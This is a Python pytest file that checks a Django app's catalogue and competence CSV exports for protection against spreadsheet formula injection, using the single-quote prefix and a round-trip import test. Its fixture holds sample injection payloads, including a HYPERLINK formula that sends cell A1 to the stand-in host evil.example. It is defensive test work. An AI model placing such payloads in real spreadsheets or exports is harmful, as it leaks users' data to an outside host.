"""Issue #9 finding 7: catalogue and framework CSVs neither carry nor create formulas.

Exported text that a spreadsheet would run (``=``, ``+``, ``-``, ``@``, tab, CR) gets the
OWASP single-quote prefix; numbers stay numbers; importing keeps the text as it was and
an exported file imports back to the same text.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from trajectwijzer.catalogue.models import (
    Competence,
    CompetenceFramework,
    Programme,
    Provider,
)
from trajectwijzer.cli import main

pytestmark = pytest.mark.django_db

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "summary": "\t=1+1",
    "study_area": "-2+3",
    "description": "@SUM(A1:A9)",
}


@pytest.fixture
def hostile_programme() -> Programme:
    provider = Provider.objects.create(slug="hogent", name="HOGENT", kind="hogeschool")
    return Programme.objects.create(
        external_id="G-ZORG",
        provider=provider,
        kind="graduaat",
        title=FORMULAS["title"],
        summary=FORMULAS["summary"],
        study_area=FORMULAS["study_area"],
        description=FORMULAS["description"],
        locations=["+32 Gent", "Brussel"],
        study_credits=Decimal("120.0"),
        contact_hours=900,
    )


def exported_rows(capsys) -> list[dict[str, str]]:
    assert main(["catalogue", "export", "--format", "csv"]) == 0
    return list(csv.DictReader(io.StringIO(capsys.readouterr().out)))


def test_catalogue_csv_export_prefixes_formula_text_and_keeps_numbers(hostile_programme, capsys):
    (row,) = exported_rows(capsys)

    assert row["title"] == "'" + FORMULAS["title"]
    assert row["summary"] == "'\t=1+1"
    assert row["study_area"] == "'-2+3"
    assert row["description"] == "'@SUM(A1:A9)"
    assert row["locations"] == "'+32 Gent|Brussel"
    # Numbers are data, not formulas: written as they are.
    assert row["study_credits"] == "120.0"
    assert row["contact_hours"] == "900"
    # Text that starts harmlessly is left alone.
    assert row["external_id"] == "G-ZORG"


def test_exported_catalogue_imports_back_to_the_same_text(tmp_path, hostile_programme, capsys):
    path = tmp_path / "catalogue.csv"
    assert main(["catalogue", "export", "-o", str(path)]) == 0
    Programme.objects.all().delete()
    capsys.readouterr()

    assert main(["catalogue", "import", str(path)]) == 0

    programme = Programme.objects.get(external_id="G-ZORG")
    assert programme.title == FORMULAS["title"]
    assert programme.summary == "\t=1+1"
    assert programme.study_area == "-2+3"
    assert programme.locations == ["+32 Gent", "Brussel"]


def test_import_keeps_a_leading_tab_so_text_never_becomes_a_formula(tmp_path, capsys):
    Provider.objects.create(slug="hogent", name="HOGENT", kind="hogeschool")
    path = tmp_path / "programmes.csv"
    path.write_text(
        "external_id,provider,title,summary,kind,study_area\n"
        'G-ZORG,hogent,"\t=1+1","  Avondopleiding  ",graduaat,Zorg\n',
        encoding="utf-8",
    )

    assert main(["catalogue", "import", str(path)]) == 0

    programme = Programme.objects.get(external_id="G-ZORG")
    assert programme.title == "\t=1+1"
    # Spaces around ordinary text are still trimmed.
    assert programme.summary == "Avondopleiding"


def test_framework_csv_export_prefixes_formula_text(capsys):
    framework = CompetenceFramework.objects.create(code="BP-ZORG", title="=1+1")
    Competence.objects.create(framework=framework, code="C1", title="-Zorg plannen")

    assert main(["competences", "export", "BP-ZORG", "--format", "csv"]) == 0

    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[0]["title"] == "'=1+1"
    assert next(row for row in rows if row["type"] == "competence")["title"] == "'-Zorg plannen"


def test_exported_framework_csv_imports_back_to_the_same_text(tmp_path, capsys):
    framework = CompetenceFramework.objects.create(code="BP-ZORG", title="=1+1")
    Competence.objects.create(framework=framework, code="C1", title="\t-Zorg plannen")
    path = tmp_path / "framework.csv"
    assert main(["competences", "export", "BP-ZORG", "-o", str(path)]) == 0
    CompetenceFramework.objects.all().delete()

    assert main(["competences", "import", str(path)]) == 0

    framework = CompetenceFramework.objects.get(code="BP-ZORG")
    assert framework.title == "=1+1"
    assert framework.competences.get(code="C1").title == "\t-Zorg plannen"
